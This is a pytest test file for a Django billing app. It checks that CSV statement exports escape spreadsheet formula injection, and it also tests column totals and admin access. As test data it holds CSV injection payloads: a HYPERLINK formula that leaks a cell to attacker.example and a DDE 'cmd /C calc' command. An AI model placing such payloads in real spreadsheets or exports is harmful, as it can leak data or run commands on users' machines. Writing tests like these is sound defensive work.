"""CSV export of a statement, safe against spreadsheet formula injection."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from billing import statements
from core.csv import safe_cell
from tests import factories
from tests.billing.conftest import msk
from tests.billing.scenarios import log

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_looks_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Invoices are not generated", "1.50", "26.50", "HD-2026-00042", "", "a=b", " =x"]
)
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_numbers_and_none_become_text():
    assert safe_cell(3) == "3"
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "'-3"  # a negative number would be a formula start, too


def _rows(content: bytes) -> list[list[str]]:
    body = content.decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 (Cyrillic) with the mark
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


@pytest.fixture
def statement(representative, agent):
    organisation = representative.organisation
    organisation.name = "=cmd|'/C calc'!A0 Ltd"
    organisation.save(update_fields=["name"])
    customer = factories.CustomerFactory(organisation=organisation)
    tickets = [
        factories.TicketFactory(requester=customer, subject=subject)
        for subject in ('=HYPERLINK("http://attacker.example","Click")', "+Refund all", "@me",
                        "-1 invoices", "Счета не формируются")
    ]
    for ticket in tickets:
        # Friday 27 Nov 18:00, 2 h: 1 h business + 1 h unapproved out of hours = 2 h billable.
        log(ticket, agent, msk(2026, 11, 27, 18), 2)
    return statements.statement_generate(
        organisation=organisation, month=datetime.date(2026, 11, 1)
    )


def test_the_portal_csv_neutralises_every_formula(client, representative, statement):
    client.force_login(representative)
    response = client.get(reverse("billing:statement_csv", args=[statement.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="statement-2026-11-{statement.organisation_id}.csv"'
    )
    rows = _rows(response.content)
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert ["Organisation", "'=cmd|'/C calc'!A0 Ltd"] in rows
    subjects = {row[1] for row in rows if row and row[0].startswith("HD-")}
    assert subjects == {
        "'=HYPERLINK(\"http://attacker.example\",\"Click\")", "'+Refund all", "'@me",
        "'-1 invoices", "Счета не формируются",
    }
    header = rows[rows.index(next(r for r in rows if r and r[0] == "Ticket"))]
    assert header[4:] == [
        "Business hours", "Out-of-hours hours, approved", "Approved out-of-hours hours x2",
        "Out-of-hours hours, not approved", "Billable total, hours", "Not billable, hours",
    ]
    total = rows[-1]
    # 5 tickets x (1 h business + 1 h unapproved) = 5 h business, 5 h unapproved, 10 h billable.
    assert total == ["Total", "", "", "5", "5.00", "0.00", "0.00", "5.00", "10.00", "0.00"]


def test_the_admin_csv_is_the_same_file(client, agent, representative, statement):
    client.force_login(representative)
    portal = client.get(reverse("billing:statement_csv", args=[statement.pk])).content
    client.force_login(agent)
    response = client.get(reverse("admin:billing_statement_csv", args=[statement.pk]))
    assert response.status_code == 200
    assert response.content == portal


def test_a_customer_cannot_download_the_csv_from_the_admin(client, representative, statement):
    client.force_login(representative)
    response = client.get(reverse("admin:billing_statement_csv", args=[statement.pk]))
    assert response.status_code == 302 and "/admin/login/" in response.url
